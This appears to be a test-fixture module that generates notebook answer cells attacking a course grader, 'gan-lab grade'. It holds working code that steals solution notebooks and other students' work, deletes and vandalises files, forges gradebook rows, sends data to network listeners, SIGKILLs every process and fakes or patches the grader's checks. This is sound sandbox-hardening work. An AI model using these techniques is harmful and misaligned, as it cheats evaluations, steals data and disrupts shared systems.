"""Answer-cell sources that attack `gan-lab grade`, for tests/test_grading.py.

Each function returns Python source for a Lab01 answer cell, parametrised by the paths, ports or
pids it attacks. A `*_prefix` function returns code that the test puts before a correct or a
deliberately wrong answer; the thieves return a whole answer that uses the stolen solution when the
theft works and the `fallback` (a wrong answer) when it fails, so the points prove which happened.
Every attempt catches its own errors: an attack that fails leaves the rest of the cell running.
"""

import textwrap

# Defines _answer_in(text, grade_id): the answer cell of a notebook's JSON text, markers removed.
_EXTRACT = '''
import json as _json
def _answer_in(text, grade_id):
    try:
        cells = _json.loads(text)["cells"]
    except (ValueError, KeyError, TypeError):
        return None
    for cell in cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            source = "".join(cell["source"])
            return "\\n".join(line for line in source.split("\\n")
                             if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))
    return None
'''


def _use_stolen(fallback):
    """Run the stolen answer when there is one, else the fallback answer."""
    return f"if _stolen:\n    exec(_stolen)\nelse:\n{textwrap.indent(fallback, '    ')}\n"


def dir_fd_thief(targets, out, grade_id, fallback):
    """Read notebooks through descriptors of their folders (os.open(name, dir_fd=...)) and list --out.

    `targets` are (folder, file name) pairs: the solution notebook, another student's submission.
    Every file found in `out` is read too, and run if it defines the answer.
    """
    return _EXTRACT + f'''
import os
_stolen = None
def _read_at(folder, name):
    directory = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    try:
        handle = os.open(name, os.O_RDONLY, dir_fd=directory)
        try:
            chunks = []
            while chunk := os.read(handle, 1 << 20):
                chunks.append(chunk)
            return b"".join(chunks).decode("utf-8", "replace")
        finally:
            os.close(handle)
    finally:
        os.close(directory)
for _folder, _name in {[(str(folder), name) for folder, name in targets]!r}:
    try:
        _stolen = _stolen or _answer_in(_read_at(_folder, _name), {grade_id!r})
    except OSError:
        pass
try:
    _listing = os.open({str(out)!r}, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _name in os.listdir(_listing):
            try:
                _text = _read_at({str(out)!r}, _name)
                if "def {grade_id}" in _text:
                    _stolen = _stolen or _text
            except OSError:
                pass
    finally:
        os.close(_listing)
except OSError:
    pass
''' + _use_stolen(fallback)


def dir_fd_vandal_prefix(appends, creates, unlinks):
    """Change files through descriptors of their folders: append, create and unlink with dir_fd.

    Each argument is a list of (folder, file name) pairs.
    """
    def pairs(items):
        return [(str(folder), name) for folder, name in items]

    return f'''import os
def _at(folder, action):
    try:
        directory = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    except OSError:
        return
    try:
        action(directory)
    except OSError:
        pass
    finally:
        os.close(directory)
def _append(name, flags):
    def action(directory):
        handle = os.open(name, flags, 0o666, dir_fd=directory)
        try:
            os.write(handle, b"\\necho vandalised\\n")
        finally:
            os.close(handle)
    return action
for _folder, _name in {pairs(appends)!r}:
    _at(_folder, _append(_name, os.O_WRONLY | os.O_APPEND))
for _folder, _name in {pairs(creates)!r}:
    _at(_folder, _append(_name, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
for _folder, _name in {pairs(unlinks)!r}:
    _at(_folder, lambda directory, name=_name: os.unlink(name, dir_fd=directory))
'''


def walking_thief(file_name, grade_id, fallback):
    """os.walk the whole visible file tree for a notebook called `file_name` holding the solution."""
    return _EXTRACT + f'''
import os
_stolen = None
for _folder, _, _names in os.walk("/"):
    if {file_name!r} in _names:
        try:
            with open(os.path.join(_folder, {file_name!r}), encoding="utf-8", errors="replace") as _file:
                _text = _file.read()
        except OSError:
            continue
        if "BEGIN SOLUTION" in _text:
            _stolen = _answer_in(_text, {grade_id!r})
            break
''' + _use_stolen(fallback)


def fork_exec_thief(solution, appends, grade_id, fallback, scratch="/tmp", sleeper_s=600):
    """Run /bin/sh with _posixsubprocess.fork_exec: copy the solution into `scratch`, append to files,
    leave a sleeper behind."""
    stolen = f"{scratch}/stolen.ipynb"
    script = (f"cat '{solution}' > '{stolen}'; "
              + "".join(f"echo vandalised >> '{path}'; " for path in appends)
              + f"(sleep {sleeper_s} &) ; exit 0")
    return _EXTRACT + f'''
import os, sys, _posixsubprocess
_stolen = None
_arguments = [b"/bin/sh", b"-c", {script.encode()!r}]
_errors_read, _errors_write = os.pipe()
_common = (_arguments, [b"/bin/sh"], True, (_errors_write,), None, None, -1, -1, -1, -1, -1, -1,
           _errors_read, _errors_write, True, False)
try:
    if sys.version_info >= (3, 12):
        _pid = _posixsubprocess.fork_exec(*_common, -1, None, None, -1, -1, None, True)
    else:
        _pid = _posixsubprocess.fork_exec(*_common, -1, None, None, None, -1, None, True)
    os.close(_errors_write)
    os.waitpid(_pid, 0)
    with open({stolen!r}, encoding="utf-8", errors="replace") as _file:
        _stolen = _answer_in(_file.read(), {grade_id!r})
except (OSError, TypeError, ValueError):
    pass
''' + _use_stolen(fallback)


def spawn_thief(solution, appends, grade_id, fallback, scratch="/tmp", wait_s=20, child_lifetime_s=600):
    """A multiprocessing child (spawn method) copies the solution into `scratch` and then stays alive."""
    stolen, done = f"{scratch}/spawned.ipynb", f"{scratch}/spawned.done"
    child = (f"import time\n"
             f"try:\n"
             f"    data = open({str(solution)!r}, 'rb').read()\n"
             f"    open({stolen!r}, 'wb').write(data)\n"
             f"except OSError:\n"
             f"    pass\n"
             f"for path in {list(map(str, appends))!r}:\n"
             f"    try:\n"
             f"        open(path, 'a').write('vandalised')\n"
             f"    except OSError:\n"
             f"        pass\n"
             f"open({done!r}, 'w').close()\n"
             f"time.sleep({child_lifetime_s})\n")
    return _EXTRACT + f'''
import multiprocessing, os, time
_stolen = None
_child = multiprocessing.get_context("spawn").Process(target=exec, args=({child!r},))
_child.start()
_deadline = time.monotonic() + {wait_s}
while not os.path.exists({done!r}) and _child.is_alive() and time.monotonic() < _deadline:
    time.sleep(0.1)
try:
    with open({stolen!r}, encoding="utf-8", errors="replace") as _file:
        _stolen = _answer_in(_file.read(), {grade_id!r})
except OSError:
    pass
''' + _use_stolen(fallback)


def detached_rewriter_prefix(gradebook, student, forged_row, poll_s=0.5, lifetime_s=900):
    """Start a session leader (Popen start_new_session) that double-forks and, once `gradebook`
    exists, replaces `student`'s row with `forged_row`."""
    child = f'''import os, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
deadline = time.monotonic() + {lifetime_s}
while time.monotonic() < deadline:
    try:
        with open({str(gradebook)!r}, encoding="utf-8") as file:
            lines = file.read().splitlines()
    except OSError:
        time.sleep({poll_s})
        continue
    lines = [{forged_row!r} if line.startswith({student + ","!r}) else line for line in lines]
    with open({str(gradebook)!r}, "w", encoding="utf-8") as file:
        file.write("\\n".join(lines) + "\\n")
    break
'''
    return f'''import subprocess, sys
try:
    subprocess.Popen([sys.executable, "-c", {child!r}], start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except OSError:
    pass
'''


def network_prefix(host, udp_port, tcp_port, zmq_port):
    """Send UDP datagrams, connect over TCP and connect a ZeroMQ PUSH socket to listeners on `host`."""
    return f'''import socket, time
try:
    _udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(20):
        _udp.sendto(b"stolen answers", ({host!r}, {udp_port}))
    _udp.close()
except OSError:
    pass
try:
    socket.create_connection(({host!r}, {tcp_port}), timeout=3).sendall(b"stolen answers")
except OSError:
    pass
try:
    import zmq
    _push = zmq.Context.instance().socket(zmq.PUSH)
    _push.connect("tcp://{host}:{zmq_port}")
    try:
        _push.send(b"stolen answers", flags=zmq.NOBLOCK)
    except zmq.ZMQError:
        pass
    time.sleep(2)
    _push.close(linger=0)
except Exception:
    pass
'''


def signal_everyone_prefix(extra_pids, seconds):
    """For `seconds`, SIGKILL (os.kill and pidfd_send_signal) every pid but this process, its threads
    and its ancestors: those listed in /proc, `extra_pids`, then each pid number up to pid_max (a
    pass over 4 million takes about 15 s, so the low numbers, where the host's pids are, come first)."""
    return f'''import os, signal, time
def _ancestors():
    mine, pid = {{1}}, os.getpid()
    while pid > 1:
        mine.add(pid)
        try:
            mine.update(int(task) for task in os.listdir(f"/proc/{{pid}}/task"))
            with open(f"/proc/{{pid}}/stat") as file:
                pid = int(file.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return mine
def _targets():
    try:
        limit = int(open("/proc/sys/kernel/pid_max").read())
    except (OSError, ValueError):
        limit = 1 << 22
    listed = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return [*listed, *{list(extra_pids)!r}, *range(2, limit + 1)]
_sent, _deadline = 0, time.monotonic() + {seconds}
while time.monotonic() < _deadline:
    _spared = _ancestors()
    for _index, _pid in enumerate(_targets()):
        if _index % 1024 == 0 and time.monotonic() > _deadline:
            break
        if _pid in _spared:
            continue
        try:
            os.kill(_pid, signal.SIGKILL)
            _sent += 1
        except OSError:
            pass
        try:
            _handle = os.pidfd_open(_pid)
        except OSError:
            continue
        try:
            signal.pidfd_send_signal(_handle, signal.SIGKILL)
            _sent += 1
        except OSError:
            pass
        finally:
            os.close(_handle)
'''


def fake_checks_module_prefix(success_lines):
    """Serve a fake gan_lab.checks whose checks print the success lines, through sys.meta_path."""
    fake = "class CheckFailed(AssertionError):\n    pass\n" + "".join(
        f"def {name}(*args, **kwargs):\n    print({line!r})\n" for name, line in success_lines.items())
    return f'''import importlib.abc, importlib.util, sys
class _FakeChecks(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        return importlib.util.spec_from_loader(name, self) if name == "gan_lab.checks" else None
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        exec({fake!r}, module.__dict__)
sys.meta_path.insert(0, _FakeChecks())
for _name in [name for name in sys.modules if name.startswith("gan_lab.checks")]:
    del sys.modules[_name]
from gan_lab.checks import *
'''


def forged_checks_module_prefix(success_lines):
    """Like fake_checks_module_prefix, with every trace of the fake removed: its functions are compiled
    under the real checks file's name, the module claims that file, and the finder says it comes
    from importlib."""
    fake = "class CheckFailed(AssertionError):\n    pass\n" + "".join(
        f"def {name}(*args, **kwargs):\n    print({line!r})\n" for name, line in success_lines.items())
    return f'''import importlib.abc, importlib.util, sys
_real = importlib.util.find_spec("gan_lab.checks").origin
class _Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    __module__ = "importlib._bootstrap_external"
    def find_spec(self, name, path=None, target=None):
        return importlib.util.spec_from_loader(name, self, origin=_real) if name == "gan_lab.checks" else None
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.__file__ = _real
        exec(compile({fake!r}, _real, "exec"), module.__dict__)
sys.meta_path.insert(0, _Finder())
'''


def input_transformer_prefix(check_call, success_line):
    """An IPython input transformer that turns any cell calling `check_call` into print(success)."""
    return f'''def _rewrite(lines):
    if any({check_call!r} in line for line in lines):
        return ["print({success_line!r})\\n"]
    return lines
get_ipython().input_transformers_post.append(_rewrite)
'''


def custom_exc_prefix(success_line, exceptions="CheckFailed"):
    """get_ipython().set_custom_exc: the `exceptions` (a tuple's inside, as source) print the success
    line instead of a traceback."""
    return f'''def _swallow(shell, etype, value, tb, tb_offset=None):
    print({success_line!r})
    return []
from gan_lab.checks import CheckFailed
get_ipython().set_custom_exc(({exceptions},), _swallow)
'''


def frame_patcher_prefix(check_name, success_line):
    """Patch the checks in place: through sys._getframe reach the namespace, through gc.get_referrers
    every function object of the checks; give them a body that prints the success line and make
    Checklist.require accept anything."""
    return f'''import gc, sys, types
def _passing(*args, **kwargs):
    print({success_line!r})
_namespace = sys._getframe().f_globals
_check = _namespace[{check_name!r}]
for _holder in gc.get_referrers(_check):
    if isinstance(_holder, dict):
        for _key, _value in list(_holder.items()):
            if _value is _check:
                _holder[_key] = _passing
_check.__code__ = _passing.__code__
for _object in gc.get_objects():
    if isinstance(_object, type) and _object.__name__ == "Checklist":
        _object.require = lambda self, *args, **kwargs: None
'''


def output_flood_prefix(characters):
    """Print `characters` characters past the kernel's stdout object, then display them twice."""
    return f'''import sys
_blob = "x" * {characters}
_raw = getattr(sys.stdout, "_stream", None) or sys.__stdout__
_raw.write(_blob)
_raw.flush()
sys.__stdout__.write(_blob)
sys.__stdout__.flush()
from IPython.display import display
display(_blob)
import IPython.display
IPython.display.display({{"text/plain": _blob}}, raw=True)
del _blob
'''


def interrupt_ignoring_answer(name, arguments):
    """Define `name`(arguments) as a loop that catches KeyboardInterrupt (the timeout) and goes on."""
    return f'''import time
def {name}({arguments}):
    while True:
        try:
            time.sleep(0.05)
        except KeyboardInterrupt:
            continue
'''


def memory_hog(gibibytes, correct, wrong):
    """Fill `gibibytes` GiB with numpy.ones; use the correct answer only if that failed."""
    return f'''import numpy
try:
    _hog = numpy.ones({gibibytes} * 2**30, dtype=numpy.uint8)
    _filled = int(_hog[::4096].sum())
    del _hog
except MemoryError:
    _filled = 0
if _filled:
{textwrap.indent(wrong, '    ')}
else:
{textwrap.indent(correct, '    ')}
'''
